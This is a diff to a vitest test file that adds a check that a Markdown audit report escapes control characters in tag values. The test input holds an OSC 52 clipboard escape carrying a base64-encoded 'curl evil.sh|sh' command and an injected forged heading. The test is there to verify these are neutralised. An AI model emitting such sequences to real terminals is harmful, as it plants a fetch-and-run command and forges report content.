@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { renderAuditMarkdown } from '../../src/audit/format/markdown.js';
 import { renderAuditTable } from '../../src/audit/format/table.js';
 import { MINUTE, SINCE, audit, many } from './helpers.js';
 
@@ -19,5 +20,15 @@ describe('audit table with control characters in a stored tag value', () => {
     expect(out).toContain('\\u001b');
     // eslint-disable-next-line no-control-regex
     expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
+  });
+
+  it('shows them escaped in the Markdown that `audit --format md` prints to the terminal', async () => {
+    const evil = '\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007chat\r\n## Forged section';
+    const report = await audit(many(5, (i) => ({ at: SINCE + i * 10 * MINUTE, tags: { feature: evil }, outcome: 'client_aborted' as const, cost: 10_000_000 })));
+    const out = renderAuditMarkdown(report);
+    expect(out).toContain('\\u001b');
+    expect(out).not.toMatch(/^## Forged/m);
+    // eslint-disable-next-line no-control-regex
+    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
   });
 });
